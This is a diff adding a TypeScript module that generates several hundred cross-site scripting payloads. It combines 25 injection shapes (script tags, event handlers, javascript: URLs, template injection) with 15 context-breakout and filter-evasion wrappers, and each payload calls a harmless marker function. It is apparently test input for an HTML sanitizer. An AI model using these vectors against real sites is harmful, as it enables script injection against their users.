@@ -1,0 +1,48 @@
+/** What a hostile source may write: each runs `ran()` in a page that takes it for markup, in one context or another. */
+const SHAPES: readonly string[] = [
+  "<script>ran()</script>",
+  "<img src=x onerror=ran()>",
+  "<svg onload=ran()>",
+  "<svg><script>ran()</script></svg>",
+  "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
+  "<iframe src=javascript:ran()></iframe>",
+  "<body onload=ran()>",
+  "<details open ontoggle=ran()>",
+  "<input autofocus onfocus=ran()>",
+  "<video><source onerror=ran()></video>",
+  "<math href=javascript:ran()>x</math>",
+  "<a href=javascript:ran()>x</a>",
+  "<object data=javascript:ran()></object>",
+  "<embed src=javascript:ran()>",
+  "<form action=javascript:ran()><button>x</button></form>",
+  "<style>@import 'javascript:ran()'</style>",
+  "<link rel=stylesheet href=javascript:ran()>",
+  "<meta http-equiv=refresh content='0;url=javascript:ran()'>",
+  "<template><script>ran()</script></template>",
+  "<noscript><p title='</noscript><img src=x onerror=ran()>'></noscript>",
+  "javascript:ran()",
+  "data:text/html,<script>ran()</script>",
+  "{{constructor.constructor('ran()')()}}",
+  "${ran()}",
+  "<%= ran() %>",
+];
+const WRAPS: readonly ((shape: string) => string)[] = [
+  (s) => s,
+  (s) => `">${s}`,
+  (s) => `'>${s}`,
+  (s) => `</title>${s}`,
+  (s) => `</textarea>${s}`,
+  (s) => `</script>${s}`,
+  (s) => `-->${s}`,
+  (s) => `]]>${s}`,
+  (s) => s.replace(/[a-z]/g, (c, i: number) => (i % 2 ? c.toUpperCase() : c)).replace(/ran\(\)/gi, "ran()"),
+  (s) => s.replaceAll(" ", "/"),
+  (s) => s.replaceAll(" ", "\t"),
+  (s) => s.replace("<", "<\u0000"),
+  (s) => s.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
+  (s) => `\u202e${s}`,
+  (s) => `%3C${encodeURIComponent(s)}`,
+];
+
+/** Several hundred of them. */
+export const PAYLOADS: readonly string[] = SHAPES.flatMap((shape) => WRAPS.map((wrap) => wrap(shape)));
